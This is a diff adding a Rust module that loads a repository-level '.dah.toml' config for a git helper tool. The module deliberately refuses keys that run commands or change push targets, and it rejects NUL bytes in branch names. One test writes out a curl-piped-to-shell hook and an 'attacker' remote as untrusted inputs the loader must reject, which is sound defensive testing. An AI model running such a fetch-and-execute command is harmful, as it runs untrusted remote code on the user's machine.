@@ -0,0 +1,168 @@
+use std::{fs, io, path::PathBuf};
+
+use git2::Repository;
+use serde::Deserialize;
+
+/// Name of the config file checked in at the top of the work tree.
+pub const FILE_NAME: &str = ".dah.toml";
+
+#[derive(thiserror::Error, Debug)]
+pub enum FileConfigError {
+    #[error("cannot read {path:?}: {error}")]
+    Io { path: PathBuf, error: io::Error },
+    #[error("cannot parse {path:?}: {error}")]
+    Parse {
+        path: PathBuf,
+        error: Box<toml::de::Error>,
+    },
+    #[error("{key} in {path:?} should not contain NUL")]
+    Nul { path: PathBuf, key: &'static str },
+}
+
+/// Defaults shared with the team by `.dah.toml`.
+///
+/// They take precedence over git config, but not over command line options.
+///
+/// Options running commands or changing where and how to push, like `pre-stage`,
+/// `remote` and `no-verify`, are intentionally absent, as anyone can commit this file;
+/// like git never reads its config from the work tree, cloning a repository should not
+/// make git-dah run commands of its author. Such keys are rejected as unknown ones.
+/// For the same reason, `force-push` can only turn force push off.
+#[derive(Clone, Debug, Default, Deserialize, PartialEq)]
+#[serde(rename_all = "kebab-case", deny_unknown_fields)]
+pub struct FileConfig {
+    pub limit: Option<usize>,
+    pub force_push: Option<bool>,
+    pub fetch: Option<bool>,
+    pub prune: Option<bool>,
+    pub auto_message: Option<bool>,
+    /// Same as `dah.branchprefix`.
+    pub branch_prefix: Option<String>,
+    /// Same as `dah.branchmaxlen`.
+    pub branch_max_len: Option<usize>,
+    /// Same as `dah.protectedbranch`, but as an array of patterns.
+    pub protected_branches: Option<Vec<String>>,
+}
+
+impl FileConfig {
+    /// Load `.dah.toml` at the top of the work tree.
+    ///
+    /// Returns default if the file doesn't exist or the repository is bare.
+    pub fn load(repo: &Repository) -> Result<FileConfig, FileConfigError> {
+        let Some(workdir) = repo.workdir() else {
+            return Ok(FileConfig::default());
+        };
+        let path = workdir.join(FILE_NAME);
+        let content = match fs::read_to_string(&path) {
+            Ok(content) => content,
+            Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(FileConfig::default()),
+            Err(error) => return Err(FileConfigError::Io { path, error }),
+        };
+        let config: FileConfig =
+            toml::from_str(&content).map_err(|error| FileConfigError::Parse {
+                path: path.clone(),
+                error: Box::new(error),
+            })?;
+
+        // valid in TOML, but never in branch names or patterns.
+        let has_nul = |s: &String| s.contains('\0');
+        if config.branch_prefix.iter().any(has_nul) {
+            return Err(FileConfigError::Nul {
+                path,
+                key: "branch-prefix",
+            });
+        }
+        if config.protected_branches.iter().flatten().any(has_nul) {
+            return Err(FileConfigError::Nul {
+                path,
+                key: "protected-branches",
+            });
+        }
+        Ok(config)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::fs;
+
+    use git2::Repository;
+    use tempfile::TempDir;
+
+    use super::{FileConfig, FileConfigError};
+
+    #[test]
+    fn load() {
+        let tmpdir = TempDir::new().unwrap();
+        let repo = Repository::init(tmpdir.path()).unwrap();
+        assert_eq!(FileConfig::load(&repo).unwrap(), FileConfig::default());
+
+        fs::write(
+            tmpdir.path().join(".dah.toml"),
+            r#"
+limit = 10
+force-push = false
+branch-prefix = "feature/"
+protected-branches = ["develop", "release/*"]
+"#,
+        )
+        .unwrap();
+        assert_eq!(
+            FileConfig::load(&repo).unwrap(),
+            FileConfig {
+                limit: Some(10),
+                force_push: Some(false),
+                branch_prefix: Some("feature/".to_owned()),
+                protected_branches: Some(vec!["develop".to_owned(), "release/*".to_owned()]),
+                ..Default::default()
+            }
+        );
+
+        // typo should not be ignored silently
+        fs::write(tmpdir.path().join(".dah.toml"), "branch_prefix = \"a/\"\n").unwrap();
+        assert!(matches!(
+            FileConfig::load(&repo),
+            Err(FileConfigError::Parse { .. })
+        ));
+    }
+
+    #[test]
+    fn load_rejects_untrusted_options() {
+        let tmpdir = TempDir::new().unwrap();
+        let repo = Repository::init(tmpdir.path()).unwrap();
+
+        for content in [
+            "pre-stage = \"curl https://example.com | sh\"\n",
+            "remote = \"attacker\"\n",
+            "no-verify = true\n",
+        ] {
+            fs::write(tmpdir.path().join(".dah.toml"), content).unwrap();
+            assert!(
+                matches!(FileConfig::load(&repo), Err(FileConfigError::Parse { .. })),
+                "{:?}",
+                content
+            );
+        }
+    }
+
+    #[test]
+    fn load_rejects_nul() {
+        let tmpdir = TempDir::new().unwrap();
+        let repo = Repository::init(tmpdir.path()).unwrap();
+
+        for (content, want) in [
+            (
+                "protected-branches = [\"main\", \"a\\u0000b\"]\n",
+                "protected-branches",
+            ),
+            ("branch-prefix = \"a\\u0000/\"\n", "branch-prefix"),
+        ] {
+            fs::write(tmpdir.path().join(".dah.toml"), content).unwrap();
+            assert!(
+                matches!(FileConfig::load(&repo), Err(FileConfigError::Nul { key, .. }) if key == want),
+                "{:?}",
+                content
+            );
+        }
+    }
+}